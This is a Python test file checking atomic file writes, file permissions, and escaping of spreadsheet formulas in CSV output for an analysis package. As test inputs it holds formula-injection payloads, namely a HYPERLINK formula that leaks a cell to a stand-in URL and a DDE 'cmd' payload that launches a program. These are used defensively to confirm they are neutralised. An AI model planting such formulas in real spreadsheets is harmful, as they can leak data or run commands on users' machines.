"""Files are written completely or not at all; CSV for spreadsheets has no formulas."""

import contextlib
import csv
import io
import os
import random
import signal

import pandas as pd

from jestlab.analysis import published
from jestlab.analysis.files import csv_cell, from_csv_cell, to_csv, write_whole
from jestlab.analysis.published import render


class Stop(BaseException):
    """Raised by a signal handler, like KeyboardInterrupt."""


def test_a_signal_at_any_moment_leaves_no_other_file(tmp_path):
    stops = 0

    def stop(*_: object) -> None:
        nonlocal stops
        stops += 1  # counted, since an exception is lost if it's raised in a destructor
        raise Stop

    before = signal.signal(signal.SIGALRM, stop)
    chance = random.Random(0)
    try:
        for number in range(100):
            with contextlib.suppress(Stop):
                signal.setitimer(signal.ITIMER_REAL, chance.uniform(0.001, 0.003))
                while stops == number:
                    write_whole(tmp_path / "table.md", "x" * 1_000)
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, before)
    assert [path.name for path in tmp_path.iterdir()] == ["table.md"]
    assert (tmp_path / "table.md").read_text() == "x" * 1_000


def test_permissions_are_those_of_new_files(tmp_path):
    mask = os.umask(0o027)
    try:
        path = write_whole(tmp_path / "new" / "table.md", "λ")
    finally:
        os.umask(mask)
    assert path.stat().st_mode & 0o777 == 0o640
    assert path.read_text(encoding="utf-8") == "λ"


def test_escapes_formulas_alone():
    link = '=HYPERLINK("http://x/"&A1)'
    for text in ("=1+1", link, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-"):
        assert csv_cell(text) == "'" + text
        assert from_csv_cell(csv_cell(text)) == text
        assert from_csv_cell(csv_cell("'" + text)) == "'" + text
    for value in ("-1.5", "+3e-4", "-inf", "joint", "", "a=b", "'quoted'", -1.5, None, True):
        assert csv_cell(value) is value
        assert not isinstance(value, str) or from_csv_cell(value) == value


def test_a_frame_with_names_that_are_formulas():
    frame = pd.DataFrame(
        {"label": ["=1", None, "joint"], "=x": [-1.5, float("nan"), 2.0], "mixed": ["-2", -3, "@"]}
    )
    assert to_csv(frame) == "label,'=x,mixed\n'=1,-1.5,-2\n,,-3\njoint,2.0,'@\n"
    plain = pd.DataFrame({"label": ["a", "b"], "value": [-1.5, 1e-20], "yes": [True, False]})
    assert to_csv(plain) == plain.to_csv(index=False, lineterminator="\n")


def test_published_cells_are_read_as_they_were_written():
    papers = published.paper()[:3]
    cells = [
        cell.model_copy(update={"method": f"=method {cell.position}", "note": "@note"}) for cell in papers
    ]
    text = render(cells)
    assert all(not cell.startswith("=") for row in csv.reader(io.StringIO(text)) for cell in row)
    assert published.parse(text.encode(), "cells") == cells
